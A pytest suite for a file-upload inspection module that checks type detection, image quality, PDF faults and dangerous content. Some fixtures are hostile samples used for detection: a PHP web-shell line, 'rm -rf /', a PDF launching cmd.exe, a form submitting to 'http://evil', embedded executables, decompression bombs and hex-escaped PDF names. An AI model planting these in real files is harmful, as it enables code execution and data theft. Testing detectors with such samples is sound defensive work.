"""What inspection finds in files, honest and hostile."""

import io
import random
import zipfile

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from affairs.precheck.contents import Content, content_of
from affairs.precheck.facts import Danger, Fault, FileFacts
from affairs.precheck.inspection import inspect
from affairs.precheck.pdfs import text_of_pdf
from affairs.precheck.pictures import looks_alike
from tests.papers import image_pdf, jpeg, page, pdf_bytes, photo, plain_pdf, png, png_header, written_pdf

PHOTO = jpeg(photo(page(1240, 1754)))
SCAN = png(page(1240, 1754))


def saved(kind: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    page(200, 200).save(buffer, kind, **options)
    return buffer.getvalue()


def packed(*names: str, data: bytes = b"<x/>") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, data)
    return buffer.getvalue()


HONEST = [
    (PHOTO, Content.JPEG),
    (SCAN, Content.PNG),
    (image_pdf(PHOTO), Content.PDF),
    (b"\xef\xbb\xbf\r\n" + image_pdf(PHOTO), Content.PDF),
    (saved("GIF"), Content.GIF),
    (saved("BMP"), Content.BMP),
    (saved("TIFF"), Content.TIFF),
    (saved("WEBP"), Content.WEBP),
    (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", Content.HEIC),
    (b"\0\0\0\x18ftypisom\0\0\0\0isomavc1", Content.VIDEO),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), Content.OLE),
    (packed("word/document.xml"), Content.DOCX),
    (packed("xl/workbook.xml"), Content.XLSX),
    (packed("OFD.xml", "Doc_0/Pages/Page_0/Content.xml"), Content.OFD),
    (packed("a.jpg"), Content.ARCHIVE),
    (b"Rar!\x1a\x07\x00" + bytes(99), Content.ARCHIVE),
    (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", Content.MARKUP),
    (b"  <!DOCTYPE html><html></html>", Content.MARKUP),
    (b"MZ" + bytes(200) + b"x", Content.PROGRAM),
    (b"#!/bin/sh\nrm -rf /\n", Content.PROGRAM),
    ("身份证 220104198808081234".encode(), Content.TEXT),
    ("身份证 220104198808081234".encode("gb18030"), Content.TEXT),
    (b"", Content.EMPTY),
    (bytes(1000), Content.EMPTY),
    (bytes(range(256)) * 20, Content.UNKNOWN),
]


@pytest.mark.parametrize(("data", "content"), HONEST)
def test_a_file_is_what_its_bytes_are(data: bytes, content: Content):
    facts = inspect(data)
    assert (facts.kind, facts.fault, facts.dangers) == (content, None, ())
    assert facts.size == len(data)


def test_a_photo():
    facts = inspect(PHOTO)
    [side] = facts.sides
    assert (side.width, side.height, side.blank, side.black) == (1240, 1754, False, False)
    assert facts.pages == 1
    assert side.sharpness > 1
    assert len(facts.print) == 64


def test_a_path_is_read_as_its_bytes(tmp_path):
    (tmp_path / "身份证.exe").write_bytes(PHOTO)
    assert inspect(tmp_path / "身份证.exe") == inspect(PHOTO)


def test_facts_survive_being_stored():
    for data in (PHOTO, image_pdf(PHOTO), b"", png_header(30_000, 30_000)):
        facts = inspect(data)
        assert FileFacts.of_record(facts.as_record()) == facts


@pytest.mark.parametrize(("size", "noise"), [((1240, 1754), 3), ((1240, 1754), 12), ((2400, 3200), 8)])
def test_blur_is_told_from_sharpness_whatever_grain_and_light(size: tuple[int, int], noise: float):
    sheet = page(*size)
    letters = size[0] / 1000

    def seen(blur: float) -> float:
        return inspect(jpeg(photo(sheet, blur=blur, noise=noise, light=120))).sides[0].sharpness

    assert seen(0) > 1
    assert seen(0) > seen(letters) > 0.1 > seen(letters * 8)


@pytest.mark.parametrize(("light", "noise"), [(0, 0), (0, 12), (100, 8), (200, 4)])
def test_an_empty_sheet_is_blank_in_any_light(light: float, noise: float):
    [side] = inspect(jpeg(photo(page(share=0), light=light, noise=noise))).sides
    assert side.blank
    assert not side.black


def test_one_line_is_not_blank():
    [side] = inspect(jpeg(photo(page(lines=["收到"])))).sides
    assert not side.blank


@pytest.mark.parametrize("noise", [0, 6])
def test_a_lens_that_was_covered_is_black(noise: float):
    [side] = inspect(jpeg(photo(Image.new("L", (1200, 1600), 6), light=0, noise=noise))).sides
    assert (side.blank, side.black) == (False, True)


def test_what_is_see_through_is_judged_on_white_paper():
    [side] = inspect(png(Image.new("RGBA", (900, 900), (0, 0, 0, 0)))).sides
    assert side.blank


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9])
def test_a_photo_that_breaks_off_is_truncated(share: float):
    assert inspect(PHOTO[: int(len(PHOTO) * share)]).fault in {Fault.TRUNCATED, Fault.BROKEN}


def test_a_progressive_photo_that_breaks_off_is_truncated():
    data = jpeg(photo(page(900, 1200)), progressive=True)
    assert inspect(data).fault is None
    assert inspect(data[: len(data) // 2]).fault is Fault.TRUNCATED


def test_a_png_with_a_wrong_bit_is_broken():
    spoilt = bytearray(SCAN)
    spoilt[len(spoilt) // 2] ^= 0xFF
    assert inspect(bytes(spoilt)).fault in {Fault.BROKEN, Fault.TRUNCATED}


@pytest.mark.parametrize(
    ("width", "height"), [(50_000, 50_000), (2**31 - 1, 2**31 - 1), (30_000, 3_000), (8_000, 8_000)]
)
def test_a_bomb_is_not_unpacked(width: int, height: int):
    assert inspect(png_header(width, height)).fault is Fault.TOO_MANY_PIXELS


def test_an_animation_in_a_png():
    frames = [page(100, 100, seed) for seed in (1, 2)]
    facts = inspect(png(frames[0], save_all=True, append_images=frames[1:], default_image=False))
    assert facts.fault is Fault.ANIMATED


@pytest.mark.parametrize(
    "data",
    [
        PHOTO + packed("evil.class"),
        PHOTO + b"<script>alert(1)</script>",
        PHOTO + b"<?php system($_GET[0]); ?>",
        PHOTO[:20] + b"%PDF-1.4" + PHOTO[20:],
        SCAN + packed("a.js"),
        b"<html><script>1</script>" + image_pdf(PHOTO),
        b"MZ\x90"[2:] + b"junk" + image_pdf(PHOTO),
        image_pdf(PHOTO) + packed("a.exe"),
        jpeg(page(200, 200), comment=b"<script>alert(1)</script>"),
    ],
)
def test_two_files_in_one_are_refused(data: bytes):
    assert inspect(data).dangers == (Danger.SMUGGLED,)


def test_a_motion_photo_is_a_photo():
    assert inspect(PHOTO + b"\0\0\0\x18ftypmp42" + random.Random(1).randbytes(5000)).dangers == ()


def test_a_scan_in_a_pdf_is_seen_like_a_photo():
    blurred = jpeg(photo(page(1240, 1754), blur=10))
    blank = jpeg(photo(page(1240, 1754, share=0)))
    facts = inspect(image_pdf(PHOTO, blurred, blank))
    assert (facts.fault, facts.pages, len(facts.sides)) == (None, 3, 3)
    assert facts.sides[0] == inspect(PHOTO).sides[0]
    assert facts.sides[1].sharpness < 0.1
    assert [side.blank for side in facts.sides] == [False, False, True]


def test_a_written_pdf_has_no_pictures_and_a_text():
    data = written_pdf(["姓名：欧阳㑇㙍", "公民身份号码：22010419880808123X"], [])
    facts = inspect(data)
    assert facts.pages == 2
    assert [(side.width, side.blank, side.sharpness) for side in facts.sides] == [(0, False, None), (0, True, None)]
    assert "欧阳㑇㙍" in text_of_pdf(data)
    assert text_of_pdf(image_pdf(PHOTO)).strip() == ""
    assert text_of_pdf(b"%PDF-1.4 nothing") == ""


def test_a_pdf_of_many_pages_is_counted_and_its_first_ones_are_seen():
    facts = inspect(pdf_bytes(plain_pdf(150)))
    assert facts.pages == 150
    assert len(facts.sides) == 20


def locked(user: str, **allowed: bool) -> bytes:
    encryption = pikepdf.Encryption(owner="owner", user=user, allow=pikepdf.Permissions(**allowed))
    return pdf_bytes(plain_pdf(), encryption=encryption)


def test_passwords():
    assert inspect(locked("secret")).fault is Fault.LOCKED
    opens = inspect(locked("", extract=False, print_highres=False))
    assert (opens.fault, opens.restricted, opens.pages) == (None, True, 1)
    assert not inspect(locked("")).restricted


def with_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def with_nested_script(pdf: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    pdf.pages[0].Annots = pikepdf.Array([note])


def with_launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def with_attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ", filename="invoice.exe")


def with_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<x/>"), Fields=[])


def with_submit(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil"))


def with_media(pdf: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
    pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(note)])


@pytest.mark.parametrize("stream_mode", list(pikepdf.ObjectStreamMode))
@pytest.mark.parametrize(
    ("spoil", "danger"),
    [
        (with_script, Danger.SCRIPT),
        (with_nested_script, Danger.SCRIPT),
        (with_launch, Danger.LAUNCH),
        (with_attachment, Danger.EMBEDDED),
        (with_form, Danger.SUBMITS),
        (with_submit, Danger.SUBMITS),
        (with_media, Danger.MEDIA),
    ],
)
def test_what_would_act_on_a_clerks_computer_is_found(spoil, danger: Danger, stream_mode: pikepdf.ObjectStreamMode):
    pdf = plain_pdf()
    spoil(pdf)
    assert danger in inspect(pdf_bytes(pdf, object_stream_mode=stream_mode)).dangers


def test_a_name_that_is_written_in_numbers_is_found():
    pdf = plain_pdf()
    with_script(pdf)
    data = pdf_bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert b"/JavaScript" in data
    hidden = data.replace(b"/JavaScript", b"/J#61vaScrip#74").replace(b"/JS", b"/#4aS")
    assert inspect(hidden).dangers == (Danger.SCRIPT,)


def test_a_link_and_a_bookmark_are_no_danger():
    pdf = plain_pdf()
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.gov.cn")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    pdf.pages[0].Annots = pikepdf.Array([note])
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
    assert inspect(pdf_bytes(pdf)).dangers == ()


def test_a_pdf_that_is_cut_is_repaired_or_broken_and_never_more():
    data = image_pdf(PHOTO, PHOTO)
    for share in (0.01, 0.3, 0.6, 0.9, 0.99):
        facts = inspect(data[: int(len(data) * share)])
        assert facts.kind is Content.PDF
        assert facts.fault in {Fault.BROKEN, None}
    assert inspect(b"%PDF-1.7\n%%EOF").fault is Fault.BROKEN


def test_office_files():
    assert inspect(packed("word/document.xml", "word/vbaProject.bin")).dangers == (Danger.MACRO,)
    assert inspect(packed("OFD.xml", "Doc_0/Pages/Page_0/Content.xml", "Doc_0/Pages/Page_1/Content.xml")).pages == 2
    bomb = packed("word/document.xml", data=bytes(210_000_000))
    assert inspect(bomb).fault is Fault.TOO_COMPLEX
    spoilt = bytearray(packed("xl/workbook.xml", data=random.Random(1).randbytes(5000)))
    spoilt[2000] ^= 1
    assert inspect(bytes(spoilt)).fault is Fault.BROKEN


def test_the_same_picture_saved_again_looks_alike_and_another_does_not():
    sheet = photo(page(1240, 1754, seed=1))
    first = inspect(jpeg(sheet)).print
    for other in (jpeg(sheet, 40), png(sheet), jpeg(sheet.resize((800, 1131))), image_pdf(jpeg(sheet, 60))):
        assert looks_alike(first, inspect(other).print)
    for other in (jpeg(photo(page(1240, 1754, seed=2))), jpeg(photo(page(1240, 1754, seed=3), light=10))):
        assert not looks_alike(first, inspect(other).print)
    blank = inspect(jpeg(photo(page(1240, 1754, share=0)))).print
    assert not looks_alike(blank, blank), "two empty sheets are not one paper"


@settings(max_examples=150, deadline=None)
@given(
    st.binary(max_size=300), st.sampled_from([b"", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"%PDF-1.7\n", b"PK\x03\x04"])
)
def test_any_bytes_have_facts(data: bytes, head: bytes):
    facts = inspect(head + data)
    assert facts.size == len(head + data)
    assert facts.kind is content_of(head + data)


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_an_honest_file_with_wrong_bytes_has_facts(data: st.DataObject):
    original = data.draw(st.sampled_from([jpeg(page(120, 160)), png(page(120, 160)), pdf_bytes(plain_pdf())]))
    spoilt = bytearray(original)
    for _ in range(data.draw(st.integers(1, 20))):
        spoilt[data.draw(st.integers(0, len(spoilt) - 1))] = data.draw(st.integers(0, 255))
    assert inspect(bytes(spoilt)).size == len(original)
